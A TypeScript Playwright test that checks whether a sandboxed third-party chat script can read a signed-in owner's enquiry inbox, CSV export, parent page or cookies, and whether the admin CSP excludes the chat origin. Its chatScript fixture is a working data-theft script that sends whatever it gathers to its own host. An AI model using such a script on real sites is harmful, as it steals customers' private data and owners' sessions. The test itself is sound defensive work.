/**
 * Issue 27, finding 2: no third-party script can reach the owner's inbox. In a real Chromium,
 * with the owner signed in, a 'chat' script on the build's LIVE_CHAT_SCRIPT_URL (loopback,
 * played by the test) tries to read the CSV export, the inbox's data and an enquiry's page and
 * data, and to reach into the page around it; it reports what it got to its own host. It must
 * get nothing (decision 0058: the chat runs in a sandboxed frame with an opaque origin). The
 * inbox's policy never names the chat origin. Needs a build with LIVE_CHAT_SCRIPT_URL (`npm test`).
 */
import type { BrowserContext, Page, Route } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SqliteDatabase } from "../../server/db/sqlite";
import { EnquiryStore } from "../../server/enquiries/store";
import { DESKTOP, PHONE } from "../../scripts/lib/chromium";
import { builtWith, useSite } from "../support/fixtures";
import { OWNER_EMAIL, ownerAuth, signedInCookie } from "../support/owner";

const { LIVE_CHAT_SCRIPT_URL } = builtWith();
const chatUrl = LIVE_CHAT_SCRIPT_URL ? new URL(LIVE_CHAT_SCRIPT_URL) : null;
const SECRET = "Secret-marker-2727 wants a shop online";
const EMAIL = "kavitha.secret@example.in";

const fixture = useSite({ sqlite: true, browser: true });
let store: EnquiryStore;
let enquiryId: number;
let cookie: string;

beforeAll(async () => {
  expect(chatUrl, "the build must have LIVE_CHAT_SCRIPT_URL (npm test sets a loopback one)").toBeTruthy();
  const posted = await fetch(`${fixture.site.url}/contact`, {
    method: "POST",
    headers: { Origin: fixture.site.url },
    body: new URLSearchParams({
      name: "Kavitha Raman",
      email: EMAIL,
      phone: "9843012345",
      businessName: "",
      service: "Website Development",
      message: SECRET,
    }),
  });
  expect(posted.status).toBe(200);
  store = new EnquiryStore(new SqliteDatabase(fixture.databaseFile));
  await ownerAuth(store).owners.add(OWNER_EMAIL);
  const [row] = await store.sql.query("SELECT id FROM enquiries");
  enquiryId = Number(row!.id);
  cookie = await signedInCookie(fixture.site, store);
});
afterAll(async () => {
  await store?.close();
});

/** What the 'chat' script tries to read, relative to the document it runs in. */
const targets = () => [
  "/admin/export.csv",
  "/admin/export.csv?status=all",
  "/admin.data",
  `/admin/enquiries/${enquiryId}`,
  `/admin/enquiries/${enquiryId}.data`,
  "/admin",
];

/**
 * The third-party script: fetches every target with credentials, tries the page around it, draws
 * a bubble (for the screenshots), and posts its findings to its own host as a chat widget would.
 */
function chatScript(origin: string, paths: string[]): string {
  return `(async () => {
  const got = {};
  for (const target of ${JSON.stringify(paths)}) {
    try {
      const response = await fetch(new URL(target, location.href), { credentials: "include" });
      got[target] = response.status + " " + (await response.text()).slice(0, 2000);
    } catch (error) {
      got[target] = "refused: " + error.name;
    }
  }
  // The page around it, if any (opened on its own, its parent is itself).
  try { got.parent = parent === self ? "none" : "read: " + parent.document.documentElement.outerHTML.slice(0, 2000); } catch (error) { got.parent = "refused: " + error.name; }
  try { got.cookie = "read: " + document.cookie; } catch (error) { got.cookie = "refused: " + error.name; }
  got.origin = String(self.origin);
  const bubble = document.createElement("div");
  bubble.dataset.testid = "chat-bubble";
  bubble.style.cssText = "position:fixed;right:16px;bottom:16px;width:56px;height:56px;border-radius:50%;background:#c2410c";
  document.body.append(bubble);
  await fetch(${JSON.stringify(`${origin}/report`)}, { method: "POST", mode: "no-cors", body: JSON.stringify(got) });
})();`;
}

/** A signed-in owner's browser in which the chat host is played by the test; resolves with the script's report. */
async function ownerBrowsing(options = DESKTOP): Promise<{
  context: BrowserContext;
  report: Promise<Record<string, string>>;
}> {
  const context = await fixture.browser.newContext(options);
  const [name, value] = [cookie.slice(0, cookie.indexOf("=")), cookie.slice(cookie.indexOf("=") + 1)];
  // As the site sets it (server/auth/sessions.ts): HttpOnly, SameSite=Lax, Path=/.
  await context.addCookies([{ name, value, url: fixture.site.url, httpOnly: true, sameSite: "Lax" }]);
  let resolveReport: (report: Record<string, string>) => void;
  const report = new Promise<Record<string, string>>((resolve) => (resolveReport = resolve));
  await context.route(`${chatUrl!.origin}/**`, (route: Route) => {
    const url = new URL(route.request().url());
    if (url.pathname === chatUrl!.pathname)
      return route.fulfill({
        contentType: "text/javascript",
        body: chatScript(chatUrl!.origin, targets()),
      });
    if (url.pathname === "/report") resolveReport(JSON.parse(route.request().postData() ?? "{}"));
    return route.fulfill({
      status: 204,
      headers: { "Access-Control-Allow-Origin": "*" },
    });
  });
  return { context, report };
}

const within = <T>(promise: Promise<T>, ms: number) =>
  Promise.race([promise, new Promise<never>((_, reject) => setTimeout(() => reject(new Error(`no report from the chat script within ${ms} ms`)), ms))]);

describe("a third-party chat script, with the owner signed in", () => {
  it("the owner's browser does hold the session (the test would prove nothing otherwise)", async () => {
    const { context } = await ownerBrowsing();
    const csv = await context.request.get(`${fixture.site.url}/admin/export.csv?status=all`);
    expect(csv.status()).toBe(200);
    expect(await csv.text()).toContain(SECRET);
    await context.close();
  });

  for (const [label, options] of [
    ["desktop", DESKTOP],
    ["phone", PHONE],
  ] as const) {
    it(`reads nothing of the inbox from a public page (${label})`, async () => {
      const { context, report } = await ownerBrowsing(options);
      const page: Page = await context.newPage();
      await page.goto(`${fixture.site.url}/about`);
      const got = await within(report, 20_000);
      expectNothing(got);
      // It ran, with an opaque origin of its own (decision 0058).
      expect(got.origin).toBe("null");
      await context.close();
    });
  }

  it("reads nothing either from the chat's document opened on its own, as a window the chat opens would be", async () => {
    const { context, report } = await ownerBrowsing();
    const page: Page = await context.newPage();
    await page.goto(`${fixture.site.url}/live-chat-frame`);
    const got = await within(report, 20_000);
    expectNothing(got);
    // Its own policy sandboxes it: an opaque origin here too.
    expect(got.origin).toBe("null");
    await context.close();
  });

  it("changed nothing: the enquiry it fetched is still New", async () => {
    const [row] = await store.sql.query("SELECT status FROM enquiries WHERE id = ?", [enquiryId]);
    expect(row!.status).toBe("new");
  });
});

function expectNothing(got: Record<string, string>): void {
  for (const target of [...targets(), "parent", "cookie"]) {
    const answer = got[target] ?? "";
    expect(answer, target).not.toContain(SECRET);
    expect(answer, target).not.toContain(EMAIL);
    expect(answer, target).not.toContain("vd_owner_session");
    expect(answer, target).not.toMatch(/^200 /);
    expect(answer, target).not.toMatch(/^read: /);
  }
}

describe("the inbox's Content-Security-Policy", () => {
  it("never names the chat origin, signed in or not, page, data or export", async () => {
    const paths = ["/admin/sign-in", "/admin", `/admin/enquiries/${enquiryId}`, "/admin/passkeys", "/admin.data", "/admin/export.csv", "/admin/no-such-page"];
    for (const withCookie of [false, true]) {
      for (const target of paths) {
        const response = await fetch(`${fixture.site.url}${target}`, {
          headers: withCookie ? { Cookie: cookie } : {},
          redirect: "manual",
        });
        const csp = response.headers.get("content-security-policy") ?? "";
        expect(csp, target).toBeTruthy();
        expect(csp, target).not.toContain(chatUrl!.origin);
        expect(csp, target).not.toMatch(/frame-src (?!'none')/);
        await response.body?.cancel();
      }
    }
  });
});
